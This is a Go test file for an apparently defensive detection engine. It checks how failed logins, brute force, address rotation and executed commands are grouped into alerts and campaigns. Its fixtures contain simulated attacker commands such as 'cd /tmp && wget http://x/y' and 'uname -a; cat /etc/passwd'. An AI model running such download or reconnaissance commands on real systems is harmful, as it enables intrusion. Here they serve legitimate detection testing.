package detect

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"net/netip"
	"strconv"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/alert"
	"github.com/lapwing-defence/lapwing/internal/event"
)

var t0 = time.Date(2026, 5, 6, 7, 8, 9, 0, time.UTC)

func login(i int, user, src string) event.Event {
	e := event.Event{ID: strconv.Itoa(i), Time: t0.Add(time.Duration(i) * time.Second), Source: netip.MustParseAddrPort(src), User: user, Outcome: "failure"}
	e.Describe(event.ActionLogin)
	return e
}

func command(i int, src, line string) event.Event {
	e := login(i, "root", src)
	e.Outcome, e.CommandLine = "", line
	e.Describe(event.ActionCommandExecuted)
	return e
}

// judge gives the newest form of each alert, by rule and source.
func judge(t *testing.T, g *Engine, events []event.Event) map[string]alert.Alert {
	t.Helper()
	got := map[string]alert.Alert{}
	for _, e := range events {
		l, err := g.Judge(t.Context(), &e, nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range l {
			got[a.Rule.Name+" "+prefix(a.Source).String()] = a
		}
	}
	return got
}

const src = "198.51.100.7:1"

func TestOneMistypedPasswordIsNoAlert(t *testing.T) {
	if got := judge(t, New(Config{}), []event.Event{login(1, "root", src)}); len(got) != 0 {
		t.Errorf("got %v", got)
	}
}

func TestSprayAndBruteForceAreGrouped(t *testing.T) {
	var l []event.Event
	for i := range 20 {
		l = append(l, login(i, fmt.Sprintf("u%d", i), src))
	}
	got := judge(t, New(Config{}), l)
	spray, brute := got[ruleSpray.Name+" 198.51.100.7/32"], got[ruleBrute.Name+" 198.51.100.7/32"]
	if spray.Count != 16 || brute.Count != 11 || spray.Rule.Level != alert.Medium {
		t.Errorf("got %+v", got)
	}
}

func TestAGuessThatGotInIsWorse(t *testing.T) {
	var l []event.Event
	for i := range 20 {
		e := login(i, "root", src)
		if i == 15 {
			e.Outcome = "success"
		}
		l = append(l, e)
	}
	if a := judge(t, New(Config{}), l)[ruleBrute.Name+" 198.51.100.7/32"]; a.Rule.Level != alert.High {
		t.Errorf("got %+v", a)
	}
}

func TestRotatingInsideA64IsOneSource(t *testing.T) {
	var l []event.Event
	for i := range 12 {
		l = append(l, login(i, "root", fmt.Sprintf("[2001:db8::%x]:1", i+1)))
	}
	if got := judge(t, New(Config{}), l)[ruleBrute.Name+" 2001:db8::/64"]; got.Count != 3 {
		t.Errorf("got %v", got)
	}
}

func TestExercisesAreNotRealLife(t *testing.T) {
	e := login(1, "root", src)
	e.Outcome, e.Exercise = "success", "x"
	if got := judge(t, New(Config{}), []event.Event{e}); len(got) != 0 {
		t.Errorf("got %v", got)
	}
}

func TestANewDayIsANewAlert(t *testing.T) {
	g := New(Config{})
	first := judge(t, g, []event.Event{command(1, src, "id")})
	same := judge(t, g, []event.Event{command(86_000, src, "id")})
	next := judge(t, g, []event.Event{command(90_000, src, "id")})
	k := ruleCommand.Name + " 198.51.100.7/32"
	if first[k].ID != same[k].ID || same[k].Count != 2 || next[k].ID == first[k].ID || next[k].Count != 1 {
		t.Errorf("got %v, %v, %v", first[k], same[k], next[k])
	}
}

func TestSourcesThatDoTheSameAreOneCampaign(t *testing.T) {
	g := New(Config{})
	const a, b, c = "198.51.100.7:1", "203.0.113.9:1", "192.0.2.5:1"
	got := judge(t, g, []event.Event{
		command(1, a, "id"), command(2, b, "id"), // says nothing
		command(3, a, "cd /tmp && wget http://x/y"), command(4, b, "cd  /tmp && wget http://x/y"), command(5, c, "uname -a; cat /etc/passwd"),
	})
	of := func(s string) string { return got[ruleCommand.Name+" "+s+"/32"].Campaign }
	if of("198.51.100.7") != of("203.0.113.9") || of("198.51.100.7") == of("192.0.2.5") || of("192.0.2.5") == "" {
		t.Errorf("campaigns %s, %s, %s", of("198.51.100.7"), of("203.0.113.9"), of("192.0.2.5"))
	}
	_, moves := g.Changed()
	if len(moves) != 1 || moves[0].To != of("198.51.100.7") {
		t.Errorf("moves %v", moves)
	}
	// Who already has followers is not drawn away: alerts do not wander about.
	judge(t, g, []event.Event{command(6, a, "uname -a; cat /etc/passwd")})
	if _, moves := g.Changed(); len(moves) != 0 {
		t.Errorf("moves %v", moves)
	}
}

func TestTheClientCountsForCredentials(t *testing.T) {
	g := New(Config{})
	var got [3]string
	for i, hassh := range []string{"aa", "aa", "bb"} {
		s := fmt.Sprintf("198.51.100.%d:1", i)
		hello := event.Event{Connection: s, Source: netip.MustParseAddrPort(s), Time: t0}
		hello.Describe(event.ActionClientIdentified)
		hello.Add("lapwing.ssh.hassh", hassh)
		in := login(i, "root", s)
		in.Connection, in.Outcome = s, "success"
		in.Add("lapwing.password.hmac", "cc")
		for _, a := range judge(t, g, []event.Event{hello, in}) {
			got[i] = a.Campaign
		}
	}
	if got[0] != got[1] || got[0] == got[2] {
		t.Errorf("got %v", got)
	}
}

// TestEvictionSplitsNothing floods a small engine with sources: what left
// memory is recalled, so that alerts come out as in one without a limit, and
// over a restart after any event.
func TestEvictionSplitsNothing(t *testing.T) {
	var events []event.Event
	for i := range 3000 {
		s := fmt.Sprintf("10.0.%d.%d:1", i*7%4, i*13%251)
		switch i % 3 {
		case 0:
			events = append(events, login(i, fmt.Sprintf("u%d", i%40), s))
		case 1:
			events = append(events, command(i, s, fmt.Sprintf("wget http://198.51.100.9/%d", i%17)))
		default:
			e := login(i, "root", s)
			e.Outcome = "success"
			events = append(events, e)
		}
	}
	want := judge(t, New(Config{}), events)
	kept := map[string]State{}
	cfg := Config{Limit: 50, Recall: func(_ context.Context, key string) (State, bool, error) {
		d, ok := kept[key]
		return d, ok, nil
	}}
	g := New(cfg)
	got := map[string]alert.Alert{}
	evicted := int64(0)
	for i, e := range events {
		maps.Copy(got, judge(t, g, []event.Event{e}))
		if i%20 == 0 {
			states, moves := g.Changed()
			for _, s := range states {
				kept[s.Key] = s
			}
			for k, a := range got {
				for _, m := range moves {
					if a.Campaign == m.From {
						a.Campaign = m.To
						got[k] = a
					}
				}
			}
			if i%100 == 0 {
				evicted += g.Evicted()
				g = New(cfg)
			}
		}
	}
	if evicted == 0 {
		t.Fatal("nothing was evicted: this test shows nothing")
	}
	if n := len(g.mem.sources) + len(g.mem.prints); n > 80 {
		t.Errorf("%d states are open after batches of 20 events", n)
	}
	for k, w := range want {
		if a := got[k]; a.ID != w.ID || a.Count != w.Count || a.Rule.Level != w.Rule.Level || a.Title != w.Title {
			t.Fatalf("%s:\n got %+v\nwant %+v", k, a, w)
		}
	}
}

func TestAFailedRecallChangesNothing(t *testing.T) {
	fail := true
	g := New(Config{Recall: func(context.Context, string) (State, bool, error) {
		if fail {
			return State{}, false, errors.New("no disk")
		}
		return State{}, false, nil
	}})
	e := command(1, src, "id")
	if _, err := g.Judge(t.Context(), &e, nil); err == nil {
		t.Fatal("no error")
	}
	fail = false
	if l, err := g.Judge(t.Context(), &e, nil); err != nil || len(l) != 1 || l[0].Count != 1 {
		t.Errorf("got %v, %v", l, err)
	}
}

func BenchmarkJudge(b *testing.B) {
	g := New(Config{})
	e := login(1, "root", src)
	for b.Loop() {
		g.Judge(b.Context(), &e, nil)
	}
}

// Who does what a source did before it joined others joins the same ones; what a
// source did that was forgotten belongs to who does it next.
func TestWhatASourceDidGoesWithIt(t *testing.T) {
	const a, b, c, d = "198.51.100.7:1", "203.0.113.9:1", "192.0.2.5:1", "192.0.2.6:1"
	kept := map[string]State{}
	cfg := Config{Recall: func(_ context.Context, key string) (State, bool, error) {
		s, ok := kept[key]
		return s, ok, nil
	}}
	next := func(g *Engine) *Engine { // over a restart
		states, _ := g.Changed()
		for _, s := range states {
			kept[s.Key] = s
		}
		return New(cfg)
	}
	of := func(got map[string]alert.Alert, ip string) string { return got[ruleCommand.Name+" "+ip+"/32"].Campaign }
	g := New(cfg)
	first := judge(t, g, []event.Event{command(1, a, "wget http://x/first"), command(2, b, "wget http://x/second")})
	g = next(g)
	joined := judge(t, g, []event.Event{command(3, b, "wget http://x/first")})
	if of(joined, "203.0.113.9") != of(first, "198.51.100.7") {
		t.Fatalf("%v does not join %v", joined, first)
	}
	g = next(g)
	if got := judge(t, g, []event.Event{command(4, c, "wget http://x/second")}); of(got, "192.0.2.5") != of(first, "198.51.100.7") {
		t.Errorf("campaign %s, not %s", of(got, "192.0.2.5"), of(first, "198.51.100.7"))
	}
	g = next(g)
	delete(kept, "s 198.51.100.7/32")
	again := judge(t, next(g), []event.Event{command(5, d, "wget http://x/first")})
	if of(again, "192.0.2.6") == "" || of(again, "192.0.2.6") == of(first, "198.51.100.7") {
		t.Errorf("campaign %q of a source that was forgotten", of(again, "192.0.2.6"))
	}
}
